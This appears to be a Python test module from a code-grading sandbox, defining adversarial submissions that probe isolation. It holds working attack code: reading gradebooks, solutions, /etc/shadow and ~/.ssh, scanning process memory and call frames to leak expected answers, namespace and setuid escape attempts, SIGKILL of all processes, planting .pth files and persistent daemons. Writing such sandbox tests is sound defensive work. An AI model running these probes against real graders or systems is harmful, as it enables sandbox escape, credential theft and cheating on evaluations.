"""Attacks on what lies outside: secrets, other submissions, the warm process, the network, the one who comes next.

SECRETS in a source stands for a list of paths on the machine: a solution, a gradebook, another submission, the
repository. They hold the word that TOKEN spells backwards.
"""

from .attack import FULL, NONE, Attack, before, right, wrong

TOKEN = "YRANAC-EHT-FO-GNOS"
SEEK = f"""
import glob, os, sys
secrets, word = SECRETS, {TOKEN!r}[::-1]
def found(what):
    print("FOUND", what)
def read(path):
    try:
        with open(path, "rb") as file:
            if word.encode() in file.read(10**6): found(path)
    except OSError: pass
"""
CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(name, *arguments):
    if getattr(libc, name)(*arguments) != -1: print("FOUND", name, arguments)
"""


def reads(name, about, source):
    return Attack(name, about, before(SEEK + source), FULL)


def calls(name, about, source):
    return Attack(name, about, before(CALLS + source), FULL)


FILES = [
    reads("secrets by their paths", "solutions, gradebook and another submission, opened by name", """
for path in secrets:
    read(path)
    if os.path.isfile(path): found(path)
"""),
    reads("walk", "every folder that can be listed", """
for start in ("/", *secrets):
    for folder, folders, names in os.walk(start):
        if folder.startswith(("/usr", sys.prefix, os.path.realpath(sys.base_prefix))): folders.clear(); continue
        for name in names:
            if name in ("gradebook.db", "checks.py", "submissions.json", "class.json"): found(folder + "/" + name)
            read(os.path.join(folder, name))
"""),
    reads("up from the package", "the course's other folders, guessed from where the package lies", """
import course_utils
for top in [*course_utils.__path__, sys.prefix, os.path.realpath(sys.base_prefix), "/proc/1/root", "/proc/self/cwd"]:
    for up in range(1, 6):
        folder = os.path.join(top, *[".."] * up)
        for name in ("solutions", "exercises", "my_course", "tests", ".git", "submitted", "marks", "gradebook.db"):
            if os.path.exists(os.path.join(folder, name)): found(os.path.join(folder, name))
"""),
    reads("load the checks", "the course's own loader, told to read the solutions", """
from course_utils.grading.tasks import load_set
from course_utils.grading.folder import open_class
from pathlib import Path
for path in secrets:
    for folder in (Path(path), Path(path).parent, Path(path) / "solutions/01_what_is_instrumental_convergence"):
        for load in (load_set, open_class):
            try: found(load(folder))
            except Exception: pass
"""),
    reads("links", "links to secrets, hard and symbolic, and a way around the root folder", """
for path in secrets:
    for make in (os.link, os.symlink):
        try: make(path, "way"); read("way"); os.unlink("way")
        except OSError: pass
    read("/../.." + path)
    for root in ("/proc/1/root", "/proc/self/root", "/.oldroot", "/oldroot", "/newroot"): read(root + path)
"""),
    reads("/proc and /sys", "the process table, the mounts, the command line, the kernel", """
for path in ("/proc/1/environ", "/proc/self/maps", "/proc/self/mem", "/proc/1/cmdline", "/proc/mounts",
             "/proc/self/mountinfo", "/proc/kcore", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
             "/sys/kernel", "/dev/mem", "/dev/kmsg", "/dev/pts", "/dev/ptmx", "/dev/tty", "/dev/sda", "/dev/fuse"):
    if os.path.lexists(path): found(path)
"""),
    reads("environment", "who grades, where and with what", """
for name, value in os.environ.items():
    if any(path in value for path in secrets) or name in ("USER", "LOGNAME", "PWD_OLD", "SUDO_USER", "SSH_AUTH_SOCK"):
        found((name, value))
for path in ("/etc/passwd", "/etc/hostname", "/etc/machine-id", "/etc/shadow", os.path.expanduser("~/.ssh")):
    if os.path.exists(path): found(path)
"""),
    reads("descriptors", "whatever is open besides the pipe", """
for number in range(4, 1024):
    try: found((number, os.fstat(number)))
    except OSError: pass
for number in range(3):
    try:
        if os.pread(number, 100, 0): found((number, os.pread(number, 100, 0)))
    except OSError: pass
"""),
    reads("gradebook", "the marks, by sqlite3 and by nbgrader's own library", """
import sqlite3
for path in secrets:
    for name in (path, path + "/gradebook.db", f"file:{path}/gradebook.db?mode=rwc"):
        try: sqlite3.connect(name, uri=name.startswith("file:")).execute("create table x (y)"); found(name)
        except sqlite3.Error: pass
"""),
    reads("import the checks", "modules that may be there by another name", """
import importlib
for path in secrets: sys.path.insert(0, path)
for name in ("checks", "properties", "tests", "solutions", "course", "tests.grading.notebooks", "gradebook"):
    try: found(importlib.import_module(name))
    except ImportError: pass
"""),
]  # fmt: skip

MEMORY = [
    reads("objects", "all objects that Python knows of, frozen ones too", """
import gc
gc.unfreeze()
for name, module in list(sys.modules.items()):
    if name.rpartition(".")[2] in ("checks", "properties") and hasattr(module, "TASKS"): found(name)
for thing in gc.get_objects():
    if type(thing).__name__ in ("Task", "WrongTurn", "ExerciseSet", "ReleasedTask", "Turn", "Submission"): found(thing)
    for value in list(thing.values()) if isinstance(thing, dict) else ():
        if type(value) is str and value is not word and word in value: found("a text")
"""),
    Attack("frames", "the frames that a function is called from", right(battery_probability="""
import sys
def battery_probability(near, behind):
    frame = sys._getframe()
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("right", "rights", "reference", "turns", "question", "learner", "seed_of_the_class"):
                raise ValueError(f"FOUND {name} {value}")
        frame = frame.f_back
    return behind / (near + behind + 1)
"""), FULL),
    reads("raw memory", "the memory around all objects, page by page", """
import ctypes
import gc
libc, half = ctypes.CDLL(None), b"Your shares are what you get wh"
gc.unfreeze()
reading, writing = os.pipe()
read_all = 0
areas = {id(thing) & ~0xFFFFF for thing in gc.get_objects()}
for page in (area + step for area in areas for step in range(0, 1 << 20, 4096)):
    if libc.write(writing, ctypes.c_void_p(page), 4096) == 4096:  # an error, not a crash, where nothing is
        data, read_all = os.read(reading, 4096), read_all + 1
        place = data.find(half)
        while place != -1:
            if data[place + len(half):][:2] == b"en": found(data[place:place + 80])
            place = data.find(half, place + 1)
print(read_all, "pages")
"""),
    Attack("told later", "what it is called with, told by the answers to other tasks", [*right(
        first_move_share="""
import sys
seen, known = [], {"0.5 battery", "0.9 battery", "0.5 A1", "0.5 A2", "0.5 A3"}
def tell():
    told = [one for one in seen if one not in known]
    if told: raise ValueError(f"FOUND {told}")
def first_move_share(rewards, discount, move):
    frame = sys._getframe()
    while frame:
        for case in frame.f_locals.get("cases", ()):
            if case and len(case) == 3: seen.append(f"{case[1]} {case[2]}")
        frame = frame.f_back
    if any(one not in known for one in seen):
        globals()["goal_for_off"] = {f"FOUND {seen}": 1}
        globals()["terminal_or_instrumental"] = {f"FOUND {seen}"}
    tell()
    return 0.25
""", battery_probability="""
def battery_probability(near, behind):
    tell()
    return f"FOUND {near}" if (near, behind) not in {(3, 7), (2, 6), (5, 2)} else behind / (near + behind + 1)
""")], (0, 0, 3, 3)),
    Attack("told after the end", "what it is called with, told by the cells that are run again", [*right(
        first_move_share="""
import os, pathlib
for folder in (".", "/tmp", "/box", "/dev/shm"):
    note = pathlib.Path(folder, "hostile-note")
    if note.exists(): print("FOUND", note.read_text()); raise ValueError("FOUND " + note.read_text())
def first_move_share(rewards, discount, move):
    for folder in (".", "/tmp", "/box", "/dev/shm"): pathlib.Path(folder, "hostile-note").write_text(str(rewards))
    os._exit(0)
""")], (0, 3, 3, 3)),
]  # fmt: skip

POWER = [
    calls("namespaces", "new users, mounts and roots of its own", """
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x10020000): tried("unshare", flag)
tried("mount", b"tmpfs", b"/usr", b"tmpfs", 0, None)
tried("mount", None, b"/", None, 0x1021, None)
tried("umount2", b"/proc", 2)
tried("umount2", b"/box", 2)
tried("chroot", b".")
tried("setns", 3, 0)
tried("syscall", 155, b".", b".")
"""),
    calls("privileges", "another user, capabilities, another name for the machine", """
for name in ("setuid", "setgid", "seteuid"): tried(name, 0)
tried("setgroups", 1, (ctypes.c_uint * 1)(0))
tried("sethostname", b"mine", 4)
tried("mknod", b"device", 0o60600, 0x0801)
tried("prctl", 23, 21, 0, 0, 0) if libc.prctl(23, 21, 0, 0, 0) == 1 else None
import subprocess
for program in ("/usr/bin/su", "/usr/bin/mount", "/usr/bin/newgrp", "/usr/bin/sudo", "/usr/bin/chsh"):
    try:
        command = [program, "root", "-c", "id -u"]
        said = subprocess.run(command, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, timeout=1).stdout
        if said.strip() == b"0": print("FOUND", program)
    except (OSError, subprocess.TimeoutExpired): pass
"""),
    calls("other processes", "signals, traces and priorities for whoever is there", """
import signal
for target in (-1, 0, 1):
    try: os.kill(target, signal.SIGKILL)
    except OSError: pass
for number in range(2, 300):
    try: os.kill(number, 0); print("FOUND process", number)
    except OSError: pass
    tried("ptrace", 16, number, 0, 0)
for which in (os.PRIO_PGRP, os.PRIO_USER):
    try: os.setpriority(which, 0, 19)
    except OSError: pass
if os.getppid(): print("FOUND parent", os.getppid())
"""),
    Attack("sessions", "sessions of its own, each with a share of the processor", before("""
import subprocess, sys
command = [sys.executable, "-S", "-c", "import os; os.setsid(); print(os.getsid(0))"]
if subprocess.run(command, stdout=subprocess.PIPE).stdout.strip() != b"1": print("FOUND a session")
"""), FULL),
    calls("rare calls", "keys, programs for the kernel, rings, faults, messages, shared memory", """
tried("syscall", 248, b"user", b"note", b"42", 2, -3)
tried("syscall", 250, 0, -3, 1)
for number in (321, 425, 323, 298, 319, 447, 303, 304, 135, 312, 310, 438, 440): tried("syscall", number, 0, 0, 0, 0, 0)
tried("shmget", 4711, 4096, 0o1666)
tried("msgget", 4711, 0o1666)
tried("semget", 4711, 1, 0o1666)
tried("syscall", 240, b"note", 0o102, 0o600, None)
"""),
    Attack("calls of another kind", "a system call by its number for another kind of programs", before("""
import ctypes
print("FOUND", ctypes.CDLL(None).syscall(0x40000000 + 39))
""") , FULL),
    calls("network", "the machine itself, the neighbourhood, names, strange families", """
import socket
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)), (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22)), (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53)),
    (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)), (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    (socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0)), (40, socket.SOCK_STREAM, (2, 22)),
    (38, socket.SOCK_SEQPACKET, ("hash", "md5")), (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
    (socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + "/tmp" + "/.X11-unix/X0"),
):
    try:
        with socket.socket(family, kind) as end:
            end.settimeout(0.2); end.connect(address); print("FOUND", family, address)
    except OSError: pass
try: print("FOUND", socket.getaddrinfo("example.org", 80))
except OSError: pass
"""),
    Attack("other programs", "the shell and the machine's own tools", before(SEEK + """
import subprocess
for command in ("cat /etc/passwd", "ps ax | grep -c root", "env | grep -i sudo", "ls /home /root /srv",
                "find /box /dev /etc /tmp -name submissions.json", "crontab -l", "curl -m 1 http://127.0.0.1"):
    said = subprocess.run(command, shell=True, capture_output=True, timeout=10).stdout.decode()
    if word in said or "root:x:" in said or "submissions" in said: found(said)
"""), FULL),
]  # fmt: skip

NOTES = [
    reads("notes", "notes for the next, wherever one can write", """
import glob, site
for folder in ("/", "/box", "/box/tmp", "/tmp", "/dev", "/dev/shm", "/proc", "/var/tmp", "/usr", "/etc", ".",
               sys.prefix, os.path.realpath(sys.base_prefix), *site.getsitepackages(), os.path.dirname(os.__file__),
               *(folder for path in secrets for folder in (path, os.path.dirname(path)))):
    try:
        with open(folder + "/hostile-note", "w") as file: file.write("42")
        if not folder.startswith(("/box", "/tmp", "/dev/shm", ".")): found(folder)
    except OSError: pass
os.write(1, b"hostile-note"), os.write(2, b"hostile-note")
"""),
    reads("packages", "the packages that the next one will import", """
import course_utils.grading.child, json, numpy, site
for module in (json, numpy, course_utils.grading.child, site):
    cached = glob.glob(os.path.dirname(module.__file__) + "/__pycache__/*.pyc")
    for path in (module.__file__, *cached[:2]):
        try: open(path, "a").close(); found(path)
        except OSError: pass
        try: os.chmod(path, 0o777); found(path)
        except OSError: pass
for folder in site.getsitepackages():
    try: open(folder + "/hostile-note.pth", "w").write("import os"); found(folder)
    except OSError: pass
"""),
    Attack("the warm process", "what the next fork inherits, changed in this one", wrong("""
import builtins, json, sys
import course_utils.classroom.plain as plain, course_utils.grading.child as child
np.mean = np.random.default_rng = json.dumps = json.loads = lambda *a, **k: "hostile-note"
plain.encode = child.converse = child.silence = np.mean
builtins.hostile_note = True
sys.modules["hostile_note"] = np
"""), NONE),
    Attack("processes that stay", "processes that leave its session and hold the pipe", before("""
import os, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import signal, socket
            for number in range(1, 30):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            end = socket.socket(socket.AF_UNIX); end.bind(chr(0) + f"hostile-note{os.getpid()}"); end.listen()
            time.sleep(1000)
        os._exit(0)
"""), FULL),
]  # fmt: skip

ATTACKS = [*FILES, *MEMORY, *POWER, *NOTES]
